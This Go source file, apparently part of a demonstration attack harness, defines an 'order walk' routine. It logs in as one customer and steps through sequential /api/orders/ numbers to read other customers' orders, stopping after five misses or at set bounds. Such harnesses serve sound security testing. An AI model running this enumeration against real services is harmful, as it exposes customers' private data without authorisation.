package demo

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
)

// OrderWalk logs in as one customer and reads every order by its number, one
// after the other, until the numbers end or it was refused too often.
type OrderWalk struct {
	Customer Customer // whose account the attacker uses
	First    int      // first order number; 0 means FirstOrderNumber
	Bounds   Bounds
}

// endOfNumbers is how many unknown numbers in a row mean the end.
const endOfNumbers = 5

// Name returns "order walk".
func (OrderWalk) Name() string { return "order walk" }

// Run walks. It fails when the login does not work.
func (a OrderWalk) Run(ctx context.Context, target Target) (Outcome, error) {
	r := newRaid(target, a.Bounds, true)
	r.out.Own = a.Customer.Email
	form := url.Values{"email": {a.Customer.Email}, "password": {a.Customer.Password()}}
	if _, err := r.client.want(ctx, http.StatusOK, postForm("/login", form)); err != nil {
		return r.finish(), fmt.Errorf("logging in for the order walk: %w", err)
	}
	number := a.First
	if number == 0 {
		number = FirstOrderNumber
	}
	for unknown := 0; r.more() && unknown < endOfNumbers; number++ {
		got, err := r.try(ctx, get("/api/orders/"+strconv.Itoa(number)))
		if err != nil {
			return r.finish(), fmt.Errorf("walking the order numbers: %w", err)
		}
		unknown++
		if got.status != http.StatusNotFound {
			unknown = 0
		}
	}
	return r.finish(), nil
}
